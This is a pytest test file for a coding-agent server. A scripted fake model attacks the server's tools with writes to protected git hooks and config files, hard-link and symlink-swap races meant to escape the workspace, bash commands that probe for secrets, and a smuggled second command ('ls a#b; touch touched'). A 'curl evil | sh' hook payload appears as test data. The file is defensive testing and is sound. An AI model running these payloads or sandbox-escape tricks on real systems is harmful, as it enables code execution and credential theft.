"""The model as the attacker, through the real server: the fake API calls the built-in tools with
hostile arguments and every attack comes back to the model as an ``is_error`` result.

* protected paths: the store (``.victor/victor.db`` and its WAL), ``.victor/config.yml``,
  ``.victor/standards.md``, ``.git/config``, ``.git/hooks/pre-commit`` (directly, through a
  symlink, in a nested repository), a ``tools.protected_paths`` glob, a standards file that
  ``prompts.standards_file`` moved; a negated line opts a path back in; on LSP, MCP and ACP;
* a hard link to a file outside the workspace is never written through; a hard link to the
  store is never read;
* a thread swapping a path between a regular file and a symlink to an outside file (and a
  directory and a symlink to an outside directory) while the model reads and writes it many
  times: outside content never reaches the API, the outside file never changes;
* bash: no secret from the server's environment reaches a command, its output, the store or
  the API; ``ls a#b; touch x`` runs nothing.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fake_anthropic import FakeAnthropic, text, tool_uses
from rpc_wire import WireServer

SECRET = "OUTSIDE-SECRET-77e1"
HOOK = "#!/bin/sh\nexit 0\n"


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeAnthropic]:
    with FakeAnthropic() as server:
        yield server


# The worst case: the user let every write, edit and command run unasked, so only the
# protections below the approvals policy stand between the model and the machinery.
ALLOW_ALL = "approvals: {write: allow, edit: allow, bash: {allow: ['*']}}"


def make_workspace(root: Path, config: str = "") -> Path:
    workspace = root / "project"
    (workspace / ".victor").mkdir(parents=True)
    config = (config.replace("tools: {", "tools: {" + ALLOW_ALL + ", ", 1)
              if config.startswith("tools: {") else "tools: {" + ALLOW_ALL + "}\n" + config)
    (workspace / ".victor" / "config.yml").write_text(config)
    (workspace / ".victor" / "standards.md").write_text("Use tabs.\n")
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (workspace / ".git" / "hooks" / "pre-commit").write_text(HOOK)
    (workspace / "vendor" / "lib" / ".git").mkdir(parents=True)
    (workspace / "hooks").symlink_to(workspace / ".git" / "hooks")
    (workspace / "app.py").write_text("print('hi')\n")
    return workspace


def results_sent(fake: FakeAnthropic, index: int) -> list[dict[str, Any]]:
    """The tool_result blocks the server sent in message request ``index``."""
    content = fake.message_requests[index].body["messages"][-1]["content"]
    return [b for b in content if b.get("type") == "tool_result"]


def machinery(workspace: Path) -> dict[str, bytes]:
    names = [".victor/config.yml", ".victor/standards.md", ".git/config",
             ".git/hooks/pre-commit"]
    return {name: (workspace / name).read_bytes() for name in names}


ATTACKS = [
    ("write", {"path": ".victor/victor.db", "content": "garbage"}, "server's store"),
    ("read", {"path": ".victor/victor.db"}, "server's store"),
    ("read", {"path": ".victor/victor.db-wal"}, "server's store"),
    ("write", {"path": ".victor/config.yml", "content": "provider: scripted\n"},
     "protected by `.victor/`"),
    ("edit", {"path": ".victor/standards.md", "old": "tabs", "new": "whatever"},
     "protected by `.victor/`"),
    ("write", {"path": ".git/config", "content": "[core]\n"}, "protected by `.git/`"),
    ("write", {"path": ".git/hooks/pre-commit", "content": "curl evil | sh\n"},
     "`.git/hooks/pre-commit` is protected by `.git/`"),
    ("write", {"path": "hooks/post-checkout", "content": "evil\n"}, "protected by `.git/`"),
    ("edit", {"path": "hooks/pre-commit", "old": "exit 0", "new": "evil"},
     "protected by `.git/`"),
    ("write", {"path": "vendor/lib/.git/config", "content": "x"}, "protected by `.git/`"),
    ("write", {"path": ".git", "content": "gitdir: /tmp/evil\n"}, "protected by `.git/`"),
    ("write", {"path": "keys/deploy.pem", "content": "x"}, "protected by `*.pem`"),
    ("edit", {"path": "docs/TEAM.md", "old": "tests", "new": "nothing"},
     "protected by `/docs/TEAM.md`"),
]


def test_protected_paths_over_lsp(tmp_path: Path, fake: FakeAnthropic) -> None:
    workspace = make_workspace(tmp_path, "tools: {protected_paths: ['*.pem']}\n"
                                         "prompts: {standards_file: docs/TEAM.md}\n")
    (workspace / "docs").mkdir()
    (workspace / "docs" / "TEAM.md").write_text("Write tests.\n")
    before = machinery(workspace)
    calls = [(name, args) for name, args, _ in ATTACKS]
    fake.reset()
    fake.queue(text("remembered"),  # first turn: puts a marker in the store
               tool_uses(*calls),
               tool_uses(("search", {"pattern": "MARKER-5150"}), ("ls", {"path": ".victor"}),
                         ("read", {"path": ".victor/config.yml"})),
               text("done"))
    with WireServer("lsp", workspace, fake.env()) as server:
        server.initialize()
        server.call("victor/chat", {"message": "remember MARKER-5150", "sessionId": "p"})
        result = server.call("victor/chat", {"message": "attack", "sessionId": "p"},
                             timeout=120)
        assert result["content"] == "done"
        sent = results_sent(fake, 2)
        assert len(sent) == len(ATTACKS)
        for block, (name, args, message) in zip(sent, ATTACKS, strict=True):
            assert block["is_error"] is True, (name, args, block)
            assert message in str(block["content"]), (name, args, block["content"])
        assert "tools.protected_paths; see docs/security.md" in str(sent[5]["content"])
        search, listing, config = results_sent(fake, 3)
        assert "no matches" in str(search["content"])  # the store holds it; search skips it
        assert "victor.db" not in str(listing["content"])
        assert "config.yml" in str(listing["content"])
        assert not config["is_error"]  # reading the config stays allowed
        follow = server.call("victor/chat", {"message": "still there?", "sessionId": "p"})
        assert follow["content"] == "echo: still there?"
    assert machinery(workspace) == before
    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
    assert not (workspace / "keys").exists()
    assert (workspace / "docs" / "TEAM.md").read_text() == "Write tests.\n"
    assert (workspace / ".git").is_dir()
    with sqlite3.connect(workspace / ".victor" / "victor.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert db.execute("SELECT COUNT(*) FROM messages").fetchone()[0] >= 6


def test_a_negated_line_opts_a_path_back_in(tmp_path: Path, fake: FakeAnthropic) -> None:
    workspace = make_workspace(tmp_path, "tools: {protected_paths: ['!.victor/standards.md']}\n")
    fake.reset()
    fake.queue(tool_uses(("edit", {"path": ".victor/standards.md", "old": "tabs",
                                   "new": "spaces"}),
                         ("write", {"path": ".victor/config.yml", "content": "x: 1\n"})),
               text("ok"))
    with WireServer("lsp", workspace, fake.env()) as server:
        server.initialize()
        server.call("victor/chat", {"message": "edit standards", "sessionId": "n"})
    edited, refused = results_sent(fake, 1)
    assert not edited["is_error"], edited
    assert refused["is_error"] and "protected by `.victor/`" in str(refused["content"])
    assert (workspace / ".victor" / "standards.md").read_text() == "Use spaces.\n"


FACE_ATTACKS = [("write", {"path": ".git/hooks/pre-commit", "content": "evil\n"}),
                ("read", {"path": ".victor/victor.db"})]


def face_chat(server: WireServer, workspace: Path) -> None:
    if server.face == "mcp":
        answer = server.call("tools/call", {"name": "chat", "arguments": {
            "message": "attack", "session_id": "m"}}, 120)
        assert not answer.get("isError"), answer
    else:
        sid = server.call("session/new", {"cwd": str(workspace), "mcpServers": []})["sessionId"]
        answer = server.call("session/prompt", {"sessionId": sid, "prompt": [
            {"type": "text", "text": "attack"}]}, 120)
        assert answer["stopReason"] == "end_turn"
        # refused before anyone is asked: no permission request for a protected path
        assert not [m for m in server.messages if m.get("method") == "session/request_permission"]


@pytest.mark.parametrize("face", ["mcp", "acp"])
def test_protected_paths_on_the_other_faces(tmp_path: Path, fake: FakeAnthropic,
                                            face: str) -> None:
    workspace = make_workspace(tmp_path)
    fake.reset()
    fake.queue(tool_uses(*FACE_ATTACKS), text("done"))
    with WireServer(face, workspace, fake.env()) as server:
        server.initialize()
        face_chat(server, workspace)
    write, read = results_sent(fake, 1)
    assert write["is_error"] and "protected by `.git/`" in str(write["content"]), write
    assert read["is_error"] and "server's store" in str(read["content"]), read
    assert (workspace / ".git" / "hooks" / "pre-commit").read_text() == HOOK
    assert "SQLite format" not in json.dumps(fake.message_requests[1].body)


def test_hard_links_are_not_written_through_nor_read_into_the_store(
        tmp_path: Path, fake: FakeAnthropic) -> None:
    workspace = make_workspace(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text(f"{SECRET}\n")
    os.link(outside, workspace / "linked.txt")
    fake.reset()
    fake.queue(text("first"),
               tool_uses(("write", {"path": "linked.txt", "content": "pwned"}),
                         ("edit", {"path": "linked.txt", "old": SECRET, "new": "pwned"}),
                         ("read", {"path": "db-copy"})),
               text("done"))
    with WireServer("lsp", workspace, fake.env()) as server:
        server.initialize()
        server.call("victor/chat", {"message": "hello", "sessionId": "h"})
        os.link(workspace / ".victor" / "victor.db", workspace / "db-copy")
        server.call("victor/chat", {"message": "attack", "sessionId": "h"})
    write, edit, read = results_sent(fake, 2)
    assert write["is_error"] and "2 hard links" in str(write["content"]), write
    assert edit["is_error"] and "2 hard links" in str(edit["content"]), edit
    assert read["is_error"] and "hard link to the server's store" in str(read["content"]), read
    assert outside.read_text() == f"{SECRET}\n"


class Swapper(threading.Thread):
    """Keeps turning ``name`` into a regular file, then a symlink to ``target``, and back."""

    def __init__(self, workspace: Path, name: str, target: Path, make_real: Any) -> None:
        super().__init__(daemon=True)
        self.path, self.target, self.make_real = workspace / name, target, make_real
        self.stop = threading.Event()
        self.swaps = 0

    def run(self) -> None:
        staging = self.path.with_name(f".{self.path.name}.swap")
        while not self.stop.is_set():
            for as_link in (True, False):
                try:
                    remove(staging)
                    if as_link:
                        staging.symlink_to(self.target)
                    else:
                        self.make_real(staging)
                    try:
                        os.replace(staging, self.path)  # atomic for a file: the name stays
                    except OSError:  # a directory in the way: take it down first
                        remove(self.path)
                        os.replace(staging, self.path)
                except OSError:  # the server made something here meanwhile: next round
                    continue
                self.swaps += 1


def remove(path: Path) -> None:
    if path.is_symlink() or path.is_file():
        path.unlink()
    elif path.is_dir():
        shutil.rmtree(path)


def test_a_symlink_swapped_in_during_reads_and_writes_never_reaches_outside(
        tmp_path: Path, fake: FakeAnthropic) -> None:
    workspace = make_workspace(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(f"{SECRET}\n")
    swapper = Swapper(workspace, "swap.txt", outside / "secret.txt",
                      lambda p: p.write_text("inside text\n"))
    rounds = 6
    calls = [("read", {"path": "swap.txt"}), ("write", {"path": "swap.txt", "content": "mine"}),
             ("edit", {"path": "swap.txt", "old": "inside", "new": "mine"}),
             ("search", {"pattern": "SECRET|inside", "path": "swap.txt"})] * 10
    fake.reset()
    fake.queue(*[tool_uses(*calls) for _ in range(rounds)], text("done"))
    with WireServer("lsp", workspace, fake.env()) as server:
        server.initialize()
        swapper.start()
        try:
            result = server.call("victor/chat", {"message": "race", "sessionId": "r"}, 300)
        finally:
            swapper.stop.set()
            swapper.join(10)
    assert result["content"] == "done"
    assert swapper.swaps > 100
    bodies = json.dumps([r.body for r in fake.message_requests])
    assert SECRET not in bodies
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert (outside / "secret.txt").read_text() == f"{SECRET}\n"
    outcomes = [b for i in range(1, rounds + 1) for b in results_sent(fake, i)]
    assert len(outcomes) == rounds * len(calls)
    assert any(not b["is_error"] for b in outcomes)  # the race did not just refuse everything


def test_a_directory_swapped_for_a_symlink_never_reaches_outside(
        tmp_path: Path, fake: FakeAnthropic) -> None:
    workspace = make_workspace(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "notes.txt").write_text(f"{SECRET}\n")

    def make_dir(path: Path) -> None:
        path.mkdir()
        (path / "notes.txt").write_text("inside text\n")

    swapper = Swapper(workspace, "docs", outside, make_dir)
    calls = [("read", {"path": "docs/notes.txt"}),
             ("write", {"path": "docs/notes.txt", "content": "mine"}),
             ("ls", {"path": "docs"})] * 15
    fake.reset()
    fake.queue(*[tool_uses(*calls) for _ in range(4)], text("done"))
    with WireServer("lsp", workspace, fake.env()) as server:
        server.initialize()
        swapper.start()
        try:
            result = server.call("victor/chat", {"message": "race", "sessionId": "d"}, 300)
        finally:
            swapper.stop.set()
            swapper.join(10)
    assert result["content"] == "done"
    assert SECRET not in json.dumps([r.body for r in fake.message_requests])
    assert sorted(p.name for p in outside.iterdir()) == ["notes.txt"]
    assert (outside / "notes.txt").read_text() == f"{SECRET}\n"


def test_bash_never_sees_the_servers_secrets(tmp_path: Path, fake: FakeAnthropic) -> None:
    workspace = make_workspace(tmp_path, "tools: {bash: {enabled: true, allow: [env, printenv, "
                                         "ls], env: [GITHUB_TOKEN, BUILD_FLAVOUR]}}\n")
    key = "sk-ant-api03-SERVERKEY-0042"
    env = {**fake.env(key), "GITHUB_TOKEN": "ghp_NOTFORCHILD", "BUILD_FLAVOUR": "debug",
           "DATABASE_URL": "postgresql://app:hunter2@db/app"}
    fake.reset()
    fake.queue(tool_uses(("bash", {"command": "env"}),
                         ("bash", {"command": "printenv ANTHROPIC_API_KEY"}),
                         ("bash", {"command": "ls a#b; touch touched"}),
                         ("bash", {"command": "ls 'a#b;' touch"})),
               text("done"), text("next"))
    with WireServer("lsp", workspace, env) as server:
        server.initialize()
        server.call("victor/chat", {"message": "show env", "sessionId": "b"})
        server.call("victor/chat", {"message": "next", "sessionId": "b"})
    shown, printed, hashed, quoted = results_sent(fake, 1)
    assert not shown["is_error"] and "BUILD_FLAVOUR=debug" in str(shown["content"])
    assert printed["is_error"] and "[exit code 1]" in str(printed["content"])
    assert hashed["is_error"] and "`#` is shell syntax" in str(hashed["content"])
    assert quoted["is_error"] and "No such file" in str(quoted["content"])  # ls ran, alone
    assert not (workspace / "touched").exists()
    bodies = json.dumps([r.body for r in fake.message_requests])
    for secret in (key, "ghp_NOTFORCHILD", "hunter2"):
        assert secret not in bodies
        assert secret.encode() not in b"".join(
            p.read_bytes() for p in (workspace / ".victor").glob("victor.db*"))
    assert fake.message_requests[-1].api_key == key  # the server itself still has its key
